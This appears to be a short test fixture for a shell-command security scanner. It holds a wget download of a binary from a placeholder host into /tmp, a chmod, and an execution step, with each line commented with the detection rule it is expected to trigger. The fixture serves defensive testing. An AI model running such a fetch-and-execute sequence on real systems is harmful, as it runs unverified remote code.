wget http://tools.acme.test/tool -O /tmp/tool # expect: url-analyzer/cleartext-download
chmod +x /tmp/tool
/tmp/tool # expect: malicious-command/download-and-run
